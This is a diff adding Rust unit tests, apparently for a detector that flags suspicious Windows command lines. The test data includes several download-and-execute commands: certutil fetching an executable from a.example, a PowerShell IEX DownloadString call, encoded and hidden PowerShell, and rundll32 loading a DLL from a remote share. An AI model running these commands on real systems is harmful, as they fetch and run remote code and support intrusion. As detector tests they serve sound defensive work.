@@ -65,3 +65,47 @@ fn streams() {
         assert!(!runs_stream(line), "{line}");
     }
 }
+
+#[test]
+fn lines_that_hide_or_download() {
+    for (line, expected) in [
+        (
+            "certutil -urlcache -split -f http://a.example/b c.exe",
+            true,
+        ),
+        (
+            r"C:\Windows\System32\certutil.exe /decode a.txt b.exe",
+            true,
+        ),
+        ("cmd.exe /c certutil -encode a b & b.exe", true),
+        ("certutil -hashfile a.exe SHA256", false),
+        ("certutil", false),
+        ("powershell -w hidden -c Get-Date", true),
+        ("powershell -enc RwBlAHQALQBEAGEAdABlAA==", true),
+        (
+            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example')\"",
+            true,
+        ),
+        ("powershell -c Get-Date", false),
+        (r"rundll32.exe \\10.0.0.9\share\a.dll,Start", true),
+        ("rundll32.exe shell32.dll,Control_RunDLL", false),
+        ("ipconfig /all", false),
+        ("", false),
+    ] {
+        assert_eq!(hides_or_downloads(line), expected, "{line}");
+    }
+}
+
+#[test]
+fn lines_that_name_other_code() {
+    for (line, expected) in [
+        (r"regsvr32 /s C:\Users\Public\a.dll", true),
+        (r"wscript C:\ProgramData\a.vbs", true),
+        (r"rundll32 \\10.0.0.9\share\a.dll,Start", true),
+        (r"notepad C:\Users\Public\a.txt", false),
+        (r"regsvr32 /s C:\Windows\System32\a.dll", false),
+        ("regsvr32", false),
+    ] {
+        assert_eq!(names_other_code(line), expected, "{line}");
+    }
+}
